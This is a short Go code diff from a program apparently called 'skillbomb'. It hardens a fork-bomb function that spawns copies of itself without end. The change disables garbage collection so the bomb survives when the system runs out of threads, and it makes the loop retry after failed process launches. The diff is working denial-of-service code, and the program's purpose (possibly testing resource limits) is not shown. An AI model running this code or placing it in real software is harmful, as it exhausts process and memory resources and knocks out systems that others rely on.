@@ -6,6 +6,7 @@ import (
 	"os/exec"
 	"os/signal"
 	"runtime"
+	garbage "runtime/debug"
 	"syscall"
 	"time"
 	"unsafe"
@@ -52,9 +53,16 @@ func forkCount(limit int) {
 }
 
 // forkBomb multiplies for ever; each child does the same.
+//
+// A Go runtime that gets no more threads dies when it wants to collect garbage, and the first of the bombs with it: so it
+// makes little and collects none.
 func forkBomb() {
+	garbage.SetGCPercent(-1)
+	program, env := self(), os.Environ()
 	for {
-		_, _ = os.StartProcess(self(), []string{"skillbomb", "fork-bomb"}, &os.ProcAttr{Env: os.Environ()})
+		if _, err := os.StartProcess(program, []string{"skillbomb", "fork-bomb"}, &os.ProcAttr{Env: env}); err != nil {
+			time.Sleep(10 * time.Millisecond)
+		}
 	}
 }
 
